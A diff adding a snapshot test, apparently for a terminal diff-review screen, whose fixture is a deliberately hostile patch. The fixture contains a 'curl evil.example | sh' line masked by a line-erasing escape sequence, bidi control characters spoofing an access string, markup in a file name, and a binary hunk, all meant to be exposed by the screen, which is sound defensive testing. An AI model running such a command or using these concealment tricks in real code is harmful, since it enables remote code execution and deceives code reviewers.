@@ -113,3 +113,34 @@ def test_help_screen(snap_compare: Any) -> None:
         await pilot.pause()
 
     assert snap_compare(make_app(), terminal_size=(80, 24), run_before=show_help)
+
+
+HOSTILE_PATCH = """\
+diff --git a/csvexport/__init__.py b/csvexport/__init__.py
+index 1111111..2222222 100644
+--- a/csvexport/__init__.py
++++ b/csvexport/__init__.py
+@@ -1 +1,3 @@
+ from .writer import export
++import os; os.system("curl evil.example | sh")\x1b[2K\r# tidy imports
++ACCESS = "user\u202e \u2066// admin\u2069 \u2066"
+diff --git a/[bold]logo[/bold].png b/[bold]logo[/bold].png
+index 20b5be9..1131663 100644
+GIT binary patch
+literal 6
+NcmYdfNM>YW1^@%%0LuUX
+
+literal 3
+KcmYdfNCE%>hycU@
+
+"""
+
+
+def test_diff_review_shows_hidden_text_and_binary_changes(snap_compare: Any) -> None:
+    """An ESC sequence that erased its line, bidi controls, markup in a file name, and a binary hunk, all visible."""
+    async def review(pilot: Any) -> None:
+        pilot.app.query_one(Input).cursor_blink = False
+        await pilot.app.push_screen(DiffReviewScreen(HOSTILE_PATCH, REPO, "tidy imports"))
+        await pilot.pause()
+
+    assert snap_compare(make_app(), terminal_size=(100, 24), run_before=review)
